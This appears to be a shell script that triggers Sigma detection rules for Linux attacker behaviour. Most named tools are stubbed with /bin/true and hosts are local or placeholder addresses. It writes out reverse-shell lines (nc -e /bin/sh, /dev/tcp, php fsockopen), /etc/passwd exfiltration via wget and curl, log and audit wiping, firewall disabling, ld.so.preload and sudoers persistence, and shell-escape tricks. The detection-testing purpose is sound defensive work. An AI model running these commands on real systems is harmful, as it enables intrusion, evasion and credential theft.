# What rules in Sigma's format ask for: done by `cargo xtask attack --sigma FOLDER`, which then shows which of the folder's rules
# fired. What is not in Debian, or would do harm, is a program of its name that does nothing: what such rules ask for is how it
# is called.

#: sigma: programs that tell of the host
tool() { for name; do cp /bin/true "/usr/local/bin/$name"; done; }
tool lspci dmidecode lscpu lsmod last lastlog lsof netstat route ifconfig ufw firewall-cmd systemd-resolve arp getcap capsh mlocate tree esxcli bpftrace file
uname -a; hostname; uptime; lspci; dmidecode; lscpu; lsmod; kmod list
env true; id; users; w; who; last; whoami; groups
ip address; ss -ltn; netstat -an; ifconfig; route; iptables --version; ufw status; arp -a; ping -c1 127.0.0.1
cat /etc/passwd /etc/group /etc/issue /proc/version /etc/debian_version /etc/os-release > /dev/null
cat /etc/sudoers > /dev/null; grep x /etc/sudoers > /dev/null
cat /proc/self/cgroup > /dev/null; head -1 /proc/2/status
ls -a /.dockerenv; cat /.dockerenv
ls -id /
find /tmp -maxdepth 0; findmnt > /dev/null; ls -R /tmp; file /bin/true; tree /tmp
find / -maxdepth 1 -perm -4000; find /tmp -name .htpasswd; find /tmp -perm -u=s
grep -r password /tmp; grep -c x86_64 /proc/cpuinfo; dmesg | grep vbox; grep vm /etc/issue
sh -c 'lscpu | grep x86_64'
grep 'x:0:' /etc/passwd > /dev/null
getcap -r /; getcap -r / 2> /dev/null
cat /etc/resolv.conf > /dev/null
ps aux | grep nessusd; ps aux | egrep osqueryd; ps aux | grep frpc
chage -l alice; chage --list alice; passwd -S alice; cat /etc/login.defs /etc/pam.d/common-password > /dev/null
crontab -l
lastlog; lsof -u alice
esxcli network ip interface list; esxcli storage core device list; esxcli system version get; esxcli vm process list; esxcli vsan cluster get
touch /root/.bash_history; cat /root/.bash_history; head /root/.zsh_history; tail /root/x_history

#: sigma: what is hidden, changed and destroyed
tool() { for name; do cp /bin/true "/usr/local/bin/$name"; done; }
tool update-ca-certificates auditctl chattr journalctl systemctl service chkconfig iptables ip6tables ufw ufw-init nft firewall-cmd esxcli shutdown init setcap sysctl mount usermod arecord ecasound insmod
auditctl -D
mkdir -p /etc/audit /etc/audisp; echo > /etc/audit/audit.rules; echo > /etc/libaudit.conf; echo > /etc/rsyslog.conf; echo > /etc/syslog.conf
truncate -s 1M /tmp/padded; dd if=/dev/zero bs=1 count=1 > /tmp/padding; dd if=/dev/zero of=/tmp/overwritten bs=1 count=1; dd if=/dev/null of=/tmp/overwritten
touch -t 202001010000 /tmp/old; touch -r /bin/true /tmp/old; touch -t 202001010000 /tmp/x.service; touch -acmr /bin/true /tmp/old
chattr -i /tmp/old; chattr -R -i /tmp/old
chmod 777 /tmp/old; chmod u+s /tmp/old; chown root /tmp/old; sh -c 'chown root /tmp/old; chmod u+s /tmp/old'; chmod -R 755 /opt/
rm -f /tmp/old; shred -u /tmp/padding; unlink /tmp/padded
touch ~/.bash_history; rm ~/.bash_history; touch /var/log/old /var/log/syslog; rm /var/log/old
rm -f /var/log/syslog; sh -c ': > /var/log/syslog'; ln -sf /dev/null /var/log/syslog; truncate -s 0 /var/log/syslog; journalctl --vacuum-time=1s
systemctl stop firewalld; systemctl disable firewalld; service iptables stop; chkconfig iptables stop; systemctl stop cbdaemon; systemctl mask suspend.target; systemctl stop kesl; service cron stop; systemctl start x; service x reload
iptables -F ufw-logging-deny; iptables -A DROP; iptables -t nat -A PREROUTING -p tcp --dport 22 -j REDIRECT --to-ports 42391; ufw delete 1; ufw disable; ufw-init force-stop; nft flush ruleset; firewall-cmd --remove-port=22; iptables -ADROP
ufw delete allow 22; nft delete table x; firewall-cmd remove
shutdown -h now; init 0; sh -c 'halt --help'
esxcli system syslog config set --loghost=x; esxcli vm process kill --type=force --world-id=1
mount -o remount,rw,hidepid=2 /proc; mount -t proc -o hidepid=2 proc /mnt
sysctl -w kernel.randomize_va_space=0
mkdir -p /tmp/.hidden; touch /tmp/.hidden/x; mkdir /tmp/.another; mkdir ./.third
cp /bin/sh /tmp/crond; cp /bin/sh /tmp/sh
echo x > /etc/sysctl.conf
update-ca-certificates > /dev/null
mkdir -p /var/run; echo > /var/run/auditd.lock; cat /var/run/auditd.lock
sed -i s/x/y/ /etc/hosts; vim -c q /etc/sudoers < /dev/null > /dev/null 2>&1; sed -i s/x/y/ /etc/ld.so.conf

#: sigma: what stays
tool() { for name; do cp /bin/true "/usr/local/bin/$name"; done; }
tool at atd esxcli amazon-ssm-agent systemctl setcap doas insmod
echo '* * * * * root true' > /etc/cron.d/x; echo x > /etc/cron.allow
echo '* * * * * true' > /tmp/table; crontab /tmp/table; crontab -r
echo true | at now; systemctl start x
echo true > /etc/profile.d/x.sh; echo true >> /etc/profile; echo true >> ~/.bashrc; echo true >> /home/alice/.bashrc; echo x > /etc/doas.conf; echo x > /etc/pam.d/password-auth
echo /lib/x.so > /etc/ld.so.preload; rm /etc/ld.so.preload
echo 'alice ALL=(ALL) ALL' > /etc/sudoers.d/x
mkdir -p /etc/systemd/system; printf '[Service]\n' > /etc/systemd/system/x.service
echo > /tmp/rootlog; echo > /tmp/ebpfbackdoor; echo > '/tmp/{echo,x}|{base64,-d}'
useradd eve; usermod -aG root eve; userdel eve; groupadd group; groupdel group
esxcli system account add -i x; esxcli system permission set -r Admin -i x
amazon-ssm-agent -register -code x -id x -region x
doas true; setcap cap_setuid+ep /bin/true; setcap cap_setgid+ep /bin/true
printf '[Service]\n' > /etc/systemd/system/multi.service
/sbin/insmod /tmp/nothing.ko

#: sigma: shells and how they are come by
tool() { for name; do cp /bin/true "/usr/local/bin/$name"; done; }
tool flock nice env git gcc c99 apt-get rsync ssh perl ruby php xterm capsh nohup vim awk gawk find chroot
bash -i -c true < /dev/null; bash -c 'bash -i -c "base64 --help"' > /dev/null 2>&1
printf 'whoami\n' | bash -i > /dev/null 2>&1
echo dHJ1ZQo= | base64 -d | sh; sh -c 'echo dHJ1ZQo= | base64 -d | bash'; sh -c 'echo true | sh '; bash -c 'echo true | sh'
sh -c 'echo IyEvYmluL2Jhc2gK'
sh -c /tmp/nothing; printf '#!/bin/sh\ntrue\n' > /tmp/script.sh; sh -c 'sh /tmp/script.sh'; bash -c /tmp/script.sh
cp /bin/sh /tmp/sh; /tmp/sh -c 'bash -c "true; true"; sh -c "true; true"'; cp /bin/true /dev/shm/true; /dev/shm/true; cp /bin/true /tmp/true; /tmp/true
python3 -c 'import os; os.system("/bin/sh -c true")'; python3 -c 'import pty; pty.spawn("/bin/true")'
python3 -c 'import base64; print(base64.b64decode("eA==").decode())'
python3 -c 'import socket, pty
print("s.connect pty.spawn")'
timeout 1 python3 -m http.server 8099
capsh --gid=0 --; capsh --
flock -u / /bin/sh; nice /bin/sh; env /bin/sh; find . -exec /bin/sh \;; gcc -wrapper /bin/sh,-s .; awk 'BEGIN {system("/bin/sh")}'
gawk 'BEGIN {system("/bin/sh")}'; git -p help config; apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null; rsync -e "sh -c '/bin/sh '" x: ; ssh -o 'ProxyCommand=;sh 0<&2 1>&2' x; vim -c ':!/bin/sh'; vim --cmd ':!/bin/sh'
perl -e 'use Socket; connect; open; exec;'; perl -MIO -e '$c=new IO::Socket::INET; fdopen($c)'; ruby -rsocket -e 'TCPSocket.new; exec "/bin/sh -i <&3 sh"'; php -r '$s=fsockopen("x",1);exec("/bin/sh -i");'; xterm -display 127.0.0.1:1
nohup /tmp/true; sudo -R / true 2> /dev/null; sudo --chroot / true 2> /dev/null; mkfifo /tmp/pipe
sudo execve_hijack 2> /dev/null; sudo tc qdisc add dev enp0s3 clsact 2> /dev/null; sudo tc filter add dev enp0s3 ingress 2> /dev/null
mkdir -p /var/opt/microsoft/scx/tmp; cd /var/opt/microsoft/scx/tmp; /bin/sh -c 'true # /etc/opt/microsoft/scx/conf/tmpdir/scx'
printf '#!/bin/sh\nsh -c "sh 0<&1; true"\n' > /tmp/pager; chmod 755 /tmp/pager
cp /bin/sh /usr/local/bin/git; cd /tmp; printf 'bash -c "true; : bash 0<&1"\n' > help; git -p help
cp /bin/sh /usr/local/bin/rsync; rsync -c 'sh -c "true; true"; true'
setpriv --reuid=33 /bin/true

#: sigma: what is below servers and interpreters
below() { cp /bin/sh "/usr/local/bin/$1"; "/usr/local/bin/$1" -c "$2; true"; }
below nginx 'whoami; cat /etc/passwd > /dev/null'
below apache2 'hostname; pwd'
below java 'sh -c "curl --version; true" > /dev/null'
below node 'trufflehog --version' 2> /dev/null
cp /bin/true /usr/local/bin/trufflehog; below node 'trufflehog git x'
below TeamViewer_Service true
cp /bin/true /usr/local/bin/TeamViewer_Desktop; below TeamViewer_Service '/usr/local/bin/TeamViewer_Desktop --IPcport 5939 --Module 1'
sh -c 'trufflehog docker --image x --results=verified'

#: sigma: tools of attackers, and what comes from the network
tool() { for name; do cp /bin/true "/usr/local/bin/$name"; done; }
tool wget curl nc ncat socat nmap telnet hydra nuclei gobuster nikto linpeas.sh sqlmap hashcat tcpdump tshark steghide zip unzip import xwd xclip scp git apt-get dpkg yum rpm pnscan xmrig chisel bpftrace split john
wget -O /tmp/x http://127.0.0.1/; wget --post-file=/etc/passwd http://x; curl -A x http://x; curl --user-agent x http://x; curl -F x=@/etc/passwd http://x; curl --form x http://x; sh -c '/usr/local/bin/curl -o /tmp/x http://x'; sh -c '/usr/local/bin/wget -O /tmp/x http://x'
bash -c "http_proxy=http://127.0.0.1:8080 curl http://x"; env http_proxy=x true; export http_proxy=x; sh -c 'export https_proxy=x; true'
nc -e /bin/sh 192.0.2.1 4444; nc 192.0.2.1 80; ncat -c bash 192.0.2.1 1; nmap -sS 127.0.0.1; telnet x; socat - -
hydra x; nuclei x; gobuster x; nikto; linpeas.sh; sqlmap; hashcat
tcpdump -c 1 -i lo; tshark -c 1 -i lo
steghide embed -cf x.jpg -ef x.txt -ef x; steghide extract -sf x.jpg; cat x.png x.zip; unzip x.jpg
import x.png; import -window root x.png; xwd -root -out x.xwd; xclip -selection clipboard -o; xclip -sel clip -t image/png -o; xclip -sel clip -o
cp /bin/true /usr/local/bin/arecord; arecord -vv -fdat; cp /bin/true /usr/local/bin/ecasound; ecasound
zip x y; gzip -k x; tar -c x; tar -cf /tmp/x.tar /opt
git clone https://example.org/CVE-2021-1; apt-get remove x; apt-get install nmap; dpkg -i nmap.deb; yum install nc; rpm -e x; dpkg --remove x; yum erase x; apt-get purge x
pnscan -W '41424344' 127.0.0.1; xmrig --cpu-priority=5 -o stratum+tcp://x; xmrig --donate-level=0; split -b 1 /etc/issue /tmp/x
cp /etc/passwd /tmp/passwd; cp /tmp/passwd /etc/passwd; dd if=/dev/null of=/proc/self/mem; bpftrace --unsafe -e x
sh -c 'echo 1 > /tmp/sys/kernel/debug/tracing/events/kprobes/myprobe/enable; : echo 1 > /sys/kernel/debug/tracing/events/kprobes/myprobe/enable' 2> /dev/null
scp x y: ; ssh -V; sftp -h; base64 --version > /dev/null
for number in {1..60}; do printf 'aaaaaaaaaa'; done > /tmp/long; cp /bin/true /usr/local/bin/file; file "$(cat /tmp/long)"

#: sigma: connections
ip address add 198.51.100.77/32 dev lo
python3 -c '
import socket, struct
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
open("/tmp/listening", "w")
while True:
    question, client = server.recvfrom(512)
    end = question.index(b"\0", 12) + 5
    is_v4 = question[end - 4:end - 2] == b"\0\1"
    answer = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton("198.51.100.77") if is_v4 else b""
    server.sendto(question[:2] + b"\x81\x80\0\1" + struct.pack(">H", is_v4) + b"\0\0\0\0" + question[12:end] + answer, client)
' &
until [ -e /tmp/listening ]; do sleep 0.02; done
python3 -c '
import socket
for port in (4444, 443):
    server = socket.create_server(("198.51.100.77", port))
    for name in ("pool.minexmr.com", "x.localto.net", "tunnel.us.ngrok.com"):
        socket.create_connection((name, port)).close()
    server.close()
'
nc.openbsd -l 198.51.100.77 4444 & sleep 0.2
bash -c 'exec 3<> /dev/tcp/198.51.100.77/4444'
nc.openbsd -l 198.51.100.77 4445 & sleep 0.2
nc.openbsd -w1 198.51.100.77 4445 < /dev/null
(cd /tmp && timeout 5 python3 -m http.server 8077 > /dev/null 2>&1) & sleep 0.5
echo x > /tmp/fetched; wget -q -O /tmp/fetched2 http://127.0.0.1:8077/fetched
kill $(jobs -p)
wait
